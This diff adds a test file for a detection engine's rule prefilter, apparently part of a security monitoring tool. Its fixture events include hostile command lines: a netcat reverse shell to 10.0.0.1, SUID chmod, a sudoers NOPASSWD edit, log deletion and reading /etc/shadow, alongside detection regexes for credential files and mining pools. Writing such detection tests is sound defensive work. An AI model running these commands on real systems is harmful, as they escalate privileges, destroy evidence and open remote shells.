@@ -1,0 +1,126 @@
+import { existsSync } from 'node:fs';
+import * as path from 'node:path';
+import { benchEvents } from '../bench/rules';
+import { EvalContext, type Doc } from './condition';
+import { readCorpus } from './corpus';
+import { compileRule, createStreamingEngine, type CompiledRule } from './engine';
+import { commandEvent } from './events';
+import { asciiLiteral, Prefilter, regexLiterals, requirement } from './prefilter';
+import { builtinRulesDir, loadRules } from './schema';
+import { importSigmaDir } from './sigma';
+import { testEventDoc } from './testing';
+import type { RuleDef } from './types';
+
+const shared = path.resolve(__dirname, '..', '..', 'shared', 'corpora');
+
+/** Events no rule author wrote for: case, quoting, non-ASCII, flattened keys, odd shapes. */
+const TRICKY: Doc[] = [
+  commandEvent("CHMOD 4755 /usr/bin/find"),
+  commandEvent("ch'mod' u+s /bin/ba\"sh\""),
+  commandEvent('rm -rf /VAR/LOG/*'),
+  commandEvent('echo \u212Aubectl \u0130D_RSA /etc/\u0161hadow'),
+  commandEvent('cat /etc/sh\\adow'),
+  commandEvent('sudo sh -c "echo \'ALL ALL=(ALL) NOPASSWD: ALL\' >> /etc/sudoers"'),
+  commandEvent('usermod -aG sudo mallory'),
+  commandEvent('python3 -c "import pty;pty.spawn(\'/bin/bash\')"'),
+  { '@timestamp': '2026-11-22T10:00:00Z', 'process.command_line': 'nc -e /bin/sh 10.0.0.1 4444', 'event.category': 'process', 'event.id': 'flat1' },
+  { '@timestamp': '2026-11-22T10:00:01Z', event: { category: 'PROCESS', id: 'up1' }, process: { name: 'NC', executable: '/USR/BIN/NC', args: ['NC', '-E', '/BIN/SH'] } },
+  { '@timestamp': '2026-11-22T10:00:02Z', event: { category: ['authentication'], outcome: 'failure', id: 'auth1' }, source: { ip: '203.0.113.9' }, user: { name: 'root' } },
+  { '@timestamp': '2026-11-22T10:00:03Z', event: { id: 'empty1' } },
+  { '@timestamp': 'not a time', event: { id: 'bad1' }, message: 'Failed to generate curve25519 keys' },
+];
+
+async function allRules(): Promise<RuleDef[]> {
+  const rules = await loadRules([builtinRulesDir()]);
+  const sigmaDir = path.join(shared, 'sigma');
+  if (existsSync(sigmaDir)) rules.push(...(await importSigmaDir(sigmaDir)).results.flatMap((r) => (r.ok ? [r.rule] : [])));
+  else console.warn(`Sigma corpus missing at ${sigmaDir}: checking the built-in rules only`);
+  return rules;
+}
+
+function eventSet(rules: readonly RuleDef[]): Doc[] {
+  const events: Doc[] = [...benchEvents(3000), ...TRICKY];
+  const dev = path.join(shared, 'commands', 'dev.jsonl');
+  if (existsSync(dev)) readCorpus(dev).forEach((l, i) => events.push(commandEvent(l.command, { id: `corpus-${i}` })));
+  else console.warn(`labelled corpus missing at ${dev}: using the bench mix and rule tests only`);
+  let i = 0;
+  for (const r of rules) for (const e of [...r.tests.match, ...r.tests.no_match]) events.push(testEventDoc(e, i++ % 3600));
+  return events;
+}
+
+describe('the rule prefilter', () => {
+  let rules: RuleDef[];
+  let events: Doc[];
+  beforeAll(async () => {
+    rules = await allRules();
+    events = eventSet(rules);
+  });
+
+  it('never hides a rule whose condition (or a sequence step) holds on an event', () => {
+    const compiled: CompiledRule[] = rules.map((r) => compileRule(r));
+    const pf = new Prefilter(compiled.map((r) => r.requirement));
+    const ctx = new EvalContext();
+    const missed: string[] = [];
+    let holds = 0;
+    for (const ev of events) {
+      ctx.reset(ev);
+      const cands = new Set(pf.candidates(ctx));
+      compiled.forEach((r, i) => {
+        const ok = r.def.type === 'sequence' ? r.steps.some((s) => s(ctx)) : r.predicate(ctx);
+        if (!ok) return;
+        holds++;
+        if (!cands.has(i)) missed.push(`${r.def.id} on ${JSON.stringify(ev).slice(0, 160)}`);
+      });
+    }
+    expect(missed).toEqual([]);
+    expect(holds).toBeGreaterThan(500);
+  });
+
+  it('gives the same matches and the same alerts as evaluating every rule on every event', () => {
+    const fast = createStreamingEngine(rules);
+    const naive = createStreamingEngine(rules, { prefilter: false });
+    let matches = 0;
+    for (const ev of events) {
+      const a = fast.evaluate(ev);
+      const b = naive.evaluate(ev);
+      expect(a.matched).toEqual(b.matched);
+      expect(a.alerts).toEqual(b.alerts);
+      matches += a.matched.length;
+    }
+    expect(fast.stats()).toEqual(naive.stats());
+    expect(matches).toBeGreaterThan(500);
+    // Few rules escape the index (each is evaluated on every event).
+    expect(fast.prefilter.always).toBeLessThanOrEqual(5);
+  });
+});
+
+describe('literal extraction', () => {
+  it('finds the literals every regex match must contain', () => {
+    expect(regexLiterals('^/etc/(shadow|gshadow)$')).toEqual(['/etc/shadow', '/etc/gshadow']);
+    expect(regexLiterals('stratum\\d?\\+(tcp|ssl|tls)://')).toEqual(['stratum']);
+    expect(regexLiterals('^[Pp]ermissive$')).toEqual(['permissive']);
+    expect(regexLiterals('(^|/)\\.bash_history$')).toEqual(['.bash_history', '/.bash_history']);
+    expect(regexLiterals('a+b?c*')).toEqual(['a']);
+  });
+
+  it('gives up rather than guess on constructs it does not model', () => {
+    expect(regexLiterals('\\x41BC')).toBeUndefined();
+    expect(regexLiterals('(a)\\1')).toBeUndefined();
+    expect(regexLiterals('.*')).toBeUndefined();
+    expect(regexLiterals('foo|.*')).toBeUndefined();
+  });
+
+  it('keeps only ASCII runs, lower-cased', () => {
+    expect(asciiLiteral('Ünïcode-Pass')).toBe('code-pass');
+    expect(asciiLiteral('\u212A')).toBe('');
+  });
+
+  it('reduces a condition to cheap atoms: all takes one child, any needs every child, not gives nothing', () => {
+    expect(requirement({ all: [{ field: 'event.category', equals: 'process' }, { cmd: { name: ['chmod'] } }] })).toEqual([{ kind: 'name', v: 'chmod' }]);
+    expect(requirement({ any: [{ cmd: { name: ['chmod'] } }, { field: 'process.name', equals: 'Chown' }] })).toEqual([
+      { kind: 'name', v: 'chmod' },
+      { kind: 'eq', path: 'process.name', v: 'chown' },
+    ]);
+    expect(requirement({ any: [{ cmd: { name: ['chmod'] } }, { not: { field: 'a', equals: 'b' } }] })).toBeUndefined();
+  });
+});
